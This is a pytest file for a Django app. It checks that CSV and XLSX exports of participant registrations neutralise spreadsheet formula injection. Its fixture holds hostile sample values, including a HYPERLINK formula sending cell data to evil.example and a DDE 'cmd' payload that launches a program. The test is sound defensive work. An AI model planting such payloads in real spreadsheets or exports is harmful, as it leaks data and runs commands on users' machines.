"""CSV/XLSX formula injection: a name typed as a formula never runs in a spreadsheet."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import ParticipantFactory, RegistrationFactory

pytestmark = pytest.mark.django_db

FORMULAS = {
    "full_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "organisation": "+1+cmd|' /C calc'!A0",
    "job_title": "-2+3",
    "email": "@SUM(1+1)@example.org",
}


@pytest.fixture
def hostile(workshop):
    return RegistrationFactory(workshop=workshop, participant=ParticipantFactory(**FORMULAS))


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(content: bytes) -> list[object]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row]


def assert_neutralised(cells: list) -> None:
    """Each hostile value is present, and only ever with a leading apostrophe."""
    texts = [cell for cell in cells if isinstance(cell, str)]
    for value in FORMULAS.values():
        assert value not in texts, value
        assert "'" + value in texts, value
    for cell in cells:
        if isinstance(cell, str) and cell:
            assert cell[0] not in "=+-@\t\r", cell


def _content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize(("fmt", "cells"), [("csv", csv_cells), ("xlsx", xlsx_cells)])
def test_attendance_export_neutralises_formulas(staff_client, hostile, fmt, cells):
    url = reverse("staff:attendance_export", args=[hostile.workshop.slug])

    response = staff_client.get(url, {"format": fmt})

    assert_neutralised(cells(_content(response)))


@pytest.mark.parametrize(("fmt", "cells"), [("csv", csv_cells), ("xlsx", xlsx_cells)])
def test_registrations_export_neutralises_formulas(staff_client, hostile, fmt, cells):
    response = staff_client.get(reverse("staff:registrations_export"), {"format": fmt})

    assert_neutralised(cells(_content(response)))


@pytest.mark.parametrize(("fmt", "cells"), [("csv", csv_cells), ("xlsx", xlsx_cells)])
def test_export_command_neutralises_formulas(hostile, tmp_path, fmt, cells):
    output = tmp_path / f"attendance.{fmt}"

    call_command(
        "export_attendance", hostile.workshop.slug, "--format", fmt, "--output", str(output)
    )

    assert_neutralised(cells(output.read_bytes()))


def test_admin_xlsx_export_carries_no_formula(admin_client, hostile):
    response = admin_client.post(
        reverse("admin:participants_registration_export"),
        {"format": "1", "resource": "0", "registrationresource_full_name": True},
    )

    values = [v for v in xlsx_cells(response.content) if isinstance(v, str)]
    assert values[0] == "Full name"
    assert all(not value.startswith("=") for value in values)
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
